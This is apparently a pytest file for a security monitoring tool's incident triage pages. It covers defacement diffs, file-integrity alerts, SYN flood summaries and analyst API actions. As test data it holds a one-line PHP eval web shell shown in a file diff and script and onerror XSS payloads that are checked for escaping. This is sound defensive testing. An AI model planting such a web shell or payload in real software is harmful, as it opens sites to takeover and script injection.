"""Triage as an analyst does it: the list in the right order, the evidence, and the buttons."""

from __future__ import annotations

import html
import re

import requests

from govwatch.events import Event

from .conftest import Agent, csrf_in, defacement_event, fim_event


def incident_order(page: str) -> list[int]:
    return [int(n) for n in re.findall(r'href="/incidents/(\d+)"', page)]


def test_list_shows_open_first_then_worst_severity_then_oldest(collector, admin, incidents):
    web04 = Agent(collector, "web-04")
    web04.post(Event("fim", {"path": "/etc/nginx/nginx.conf", "change": "modified", "root": "/etc/nginx"}, "high",
                     "nginx.conf modified"))
    high_fim = collector.store.query("SELECT id FROM incidents WHERE agent='web-04'")[0]["id"]
    token = csrf_in(admin.get(f"{collector.url}/", timeout=10).text)
    admin.post(f"{collector.url}/incidents/{incidents['fim']}/acknowledge", data={"csrf": token}, timeout=10)
    page = admin.get(f"{collector.url}/", timeout=10).text
    # open critical (defacement, older) -> open high (traffic, then the newer fim) -> acknowledged critical fim
    assert incident_order(page) == [incidents["defacement"], incidents["traffic"], high_fim, incidents["fim"]]
    only_fim = admin.get(f"{collector.url}/?kind=fim&severity=critical", timeout=10).text
    assert incident_order(only_fim) == [incidents["fim"]]


def test_resolved_incidents_leave_the_default_list(collector, admin, incidents):
    token = csrf_in(admin.get(f"{collector.url}/", timeout=10).text)
    admin.post(f"{collector.url}/incidents/{incidents['traffic']}/resolve", data={"csrf": token}, timeout=10)
    assert incidents["traffic"] not in incident_order(admin.get(f"{collector.url}/", timeout=10).text)
    resolved = admin.get(f"{collector.url}/?status=resolved", timeout=10).text
    assert incident_order(resolved) == [incidents["traffic"]]


def test_defacement_page_shows_reasons_domains_and_side_by_side_diff(collector, admin, incidents):
    page = admin.get(f"{collector.url}/incidents/{incidents['defacement']}", timeout=10).text
    assert "page text now says &#x27;hacked by&#x27;" in page  # a reason of unknown form: shown as sent
    assert "new outside domains (<span translate=\"no\">script</span>): " in page  # a known form: from the catalogue
    khmer = admin.get(f"{collector.url}/incidents/{incidents['defacement']}?lang=km", timeout=10).text
    assert "ដែនខាងក្រៅថ្មី" in khmer and "សេចក្ដីប្រកាសរបស់អ្នកកែបំប្លែង" in khmer and "(ភាសាអង់គ្លេស)" in khmer
    assert "evil-cdn.example" in page
    rows = re.findall(r'<tr><td class="(\w+)">([^<]*)</td><td class="(\w+)">([^<]*)</td></tr>', page)
    assert ("del", "Welcome to the official portal of the Ministry", "add", "Hacked by Team Shadow") in rows
    assert ("ctx", "Ministry of Commerce", "ctx", "Ministry of Commerce") in rows
    assert "buy cheap pills at pharma.example" in page and '<span class="tag">hidden</span>' in page
    assert f'action="/incidents/{incidents["defacement"]}/rebaseline"' in page


def test_fim_page_shows_path_change_diff_and_restore_command(collector, admin, incidents):
    page = admin.get(f"{collector.url}/incidents/{incidents['fim']}", timeout=10).text
    assert "<code>/var/www/html/index.php</code>" in page and ">modified<" in page
    assert '<span class="add">+&lt;?php eval($_POST[&#x27;x&#x27;]); ?&gt;</span>' in page
    assert "govwatch fim restore -c /etc/govwatch/agent.yml /var/www/html/index.php" in page
    Agent(collector, "web-05").post(fim_event(known_good=False))
    other = collector.store.query("SELECT id FROM incidents WHERE agent='web-05'")[0]["id"]
    assert "No known-good copy" in admin.get(f"{collector.url}/incidents/{other}", timeout=10).text


def test_traffic_page_shows_top_sources_ports_and_rates(collector, admin, incidents):
    page = admin.get(f"{collector.url}/incidents/{incidents['traffic']}", timeout=10).text
    sources = page.index("198.51.100.7"), page.index("198.51.100.9")
    assert sources[0] < sources[1] and "4,100 packets" in page
    assert "443 (5,000 SYN packets)" in page
    assert "SYN packets per second</th><td>5,200" in page and "5200 SYN/s to 10.0.0.5" in page
    assert "SYN flood against 10.0.0.5 (web-03)" in page


def test_acknowledge_comment_resolve_through_the_api(collector, admin, incidents):
    incident = incidents["defacement"]
    token = csrf_in(admin.get(f"{collector.url}/", timeout=10).text)
    api = f"{collector.url}/api/v1/incidents/{incident}"
    headers = {"X-CSRF-Token": token}
    assert admin.post(f"{api}/acknowledge", headers=headers, timeout=10).json()["incident"]["status"] == "acknowledged"
    assert admin.post(f"{api}/acknowledge", headers=headers, timeout=10).status_code == 409
    comment = admin.post(f"{api}/comment", json={"text": "called the ministry's sysadmin"}, headers=headers, timeout=10)
    assert comment.status_code == 200
    assert admin.post(f"{api}/comment", json={"text": "  "}, headers=headers, timeout=10).status_code == 400
    done = admin.post(f"{api}/resolve", headers=headers, timeout=10).json()
    assert done["incident"]["status"] == "resolved" and done["incident"]["resolved_by"] == "ana"
    assert [(t["author"], t["action"]) for t in done["timeline"]] == [
        ("ana", "acknowledged"), ("ana", "commented"), ("ana", "resolved")]
    page = admin.get(f"{collector.url}/incidents/{incident}", timeout=10).text
    assert "called the ministry&#x27;s sysadmin" in page and "Acknowledged by" in page


def test_admin_token_drives_the_api_without_a_session(collector, incidents):
    bearer = {"Authorization": f"Bearer {collector.admin_token}"}
    answer = requests.post(f"{collector.url}/api/v1/incidents/{incidents['fim']}/acknowledge", headers=bearer,
                           timeout=10)
    assert answer.status_code == 200 and answer.json()["incident"]["acknowledged_by"] == "admin-token"


def test_accept_redesign_as_new_baseline_resolves_and_tells_the_agent(collector, admin, incidents):
    incident = incidents["defacement"]
    page = admin.get(f"{collector.url}/incidents/{incident}", timeout=10).text
    answer = admin.post(f"{collector.url}/incidents/{incident}/rebaseline", data={"csrf": csrf_in(page)}, timeout=10)
    assert answer.status_code == 200 and "new baseline" in answer.text
    row = collector.store.query("SELECT status, resolved_by FROM incidents WHERE id=?", (incident,))[0]
    assert (row["status"], row["resolved_by"]) == ("resolved", "ana")
    state = collector.store.query("SELECT defaced FROM defacement_state WHERE site='moc-home'")[0]
    assert state["defaced"] == 0


def test_rebaseline_without_the_outside_view_says_so(collector, admin, incidents):
    collector.app.hooks.pop("rebaseline", None)
    incident = incidents["defacement"]
    page = admin.get(f"{collector.url}/incidents/{incident}", timeout=10).text
    answer = admin.post(f"{collector.url}/incidents/{incident}/rebaseline", data={"csrf": csrf_in(page)}, timeout=10)
    assert answer.status_code == 503 and "not available" in answer.text


def test_hostile_text_from_an_agent_is_shown_not_run(collector, admin):
    evil = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    Agent(collector, "web-06").post(defacement_event(site="evil-site", title=evil))
    incident = collector.store.query("SELECT id FROM incidents WHERE site='evil-site'")[0]["id"]
    page = admin.get(f"{collector.url}/incidents/{incident}", timeout=10).text
    assert "<script>alert" not in page and "<img src=x" not in page
    assert html.escape(evil) in page


def test_agents_and_sites_pages_show_live_state(collector, admin, incidents):
    Agent(collector, "web-07").post(Event("heartbeat", {
        "version": "0.1.0", "hostname": "moc-web", "ministry": "MoC", "watchers": ["defacement", "fim"],
        "spool_backlog": 42, "spool_dropped": 0, "stats": {"fim": {"watched_files": 1234}}}, "info", "alive"))
    agents = admin.get(f"{collector.url}/agents?part=1", timeout=10).text
    row = next(r for r in agents.split("<tr>") if "web-07" in r)
    assert "0.1.0" in row and "moc-web" in row and ">42<" in row and "watched files 1,234" in row
    assert ">file integrity<" in row
    assert "online" in row and "<html" not in agents  # a fragment, for live refresh
    sites = admin.get(f"{collector.url}/sites", timeout=10).text
    site_row = next(r for r in sites.split("<tr") if "moc-home" in r)
    assert "defaced" in site_row and "web-01" in site_row
